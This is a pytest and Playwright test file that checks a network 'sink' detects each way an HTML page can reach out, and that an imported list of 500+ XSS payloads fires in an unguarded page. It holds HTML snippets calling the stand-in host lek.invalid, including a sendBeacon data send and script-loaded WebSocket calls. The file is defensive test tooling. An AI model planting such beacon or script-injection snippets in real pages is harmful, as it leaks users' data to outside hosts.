"""The sink hears every way in which a page can speak: else its silence would say nothing."""

from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page

from tests.browser.payloads import PAYLOADS
from tests.browser.sink import SILENCE, Sink

WAYS = {
    "http": "<img src=http://lek.invalid/a>",
    "https": "<img src=https://lek.invalid/a>",
    "another port": "<script src=http://lek.invalid:8081/a></script>",
    "this machine": "<img src=http://127.0.0.1:8123/a>",
    "a bare address": "<iframe src=http://192.0.2.1/a></iframe>",
    "a style": "<style>@import 'https://lek.invalid/a';</style>",
    "a look ahead": "<link rel=preload as=image href=https://lek.invalid/a>",
    "a socket": "<script>new WebSocket('wss://lek.invalid/a')</script>",
    "a farewell": "<script>navigator.sendBeacon('https://lek.invalid/a', 'x')</script>",
    "going there": "<meta http-equiv=refresh content='0;url=http://lek.invalid/a'>",
}


def opened(browser: Browser, sink: Sink, path: Path) -> Page:
    page = browser.new_context(proxy=sink.proxy).new_page()
    page.goto(path.as_uri())
    page.wait_for_timeout(150)
    return page


@pytest.mark.parametrize("way", WAYS)
def test_the_sink_hears(way: str, browser: Browser, sink: Sink, tmp_path: Path) -> None:
    (tmp_path / "luid.html").write_text(f"<!doctype html>{WAYS[way]}", encoding="utf-8")
    page = opened(browser, sink, tmp_path / "luid.html")
    for _ in range(40):
        if sink.connections:
            break
        page.wait_for_timeout(50)
    page.context.close()
    assert sink.connections > 0


def test_a_page_that_asks_for_nothing_is_silence(
    browser: Browser, sink: Sink, tmp_path: Path
) -> None:
    (tmp_path / "stil.html").write_text("<!doctype html><p>niets", encoding="utf-8")
    page = opened(browser, sink, tmp_path / "stil.html")
    page.context.close()
    assert sink.said == SILENCE


def test_there_are_five_hundred_payloads_and_more() -> None:
    assert len(PAYLOADS) == len(set(PAYLOADS)) >= 500
    assert all(text.encode("utf-8") for text in PAYLOADS)


def test_the_payloads_bite_where_nobody_guards_against_them(
    browser: Browser, sink: Sink, tmp_path: Path
) -> None:
    path = tmp_path / "open.html"
    path.write_text("<!doctype html><meta charset=utf-8><body>", encoding="utf-8")
    page = opened(browser, sink, path)
    bitten = page.evaluate(
        """async (texts) => {
          const frames = texts.map((text) => {
            const frame = document.createElement('iframe');
            document.body.append(frame);
            const inside = frame.contentWindow;
            inside.document.open();
            inside.document.write(text);
            inside.document.close();
            for (const one of inside.document.querySelectorAll('*')) {
              for (const name of one.getAttributeNames()) {
                if (name.startsWith('on')) one.dispatchEvent(new inside.Event(name.slice(2)));
              }
            }
            return inside;
          });
          await new Promise((resolve) => setTimeout(resolve, 500));
          return frames.filter((inside) => inside.__ran).length;
        }""",
        [text for text in PAYLOADS[::3] if "refresh" not in text],
    )
    for _ in range(100):
        if sink.connections > 10:
            break
        page.wait_for_timeout(50)
    page.context.close()
    assert bitten > 30
    assert sink.connections > 10
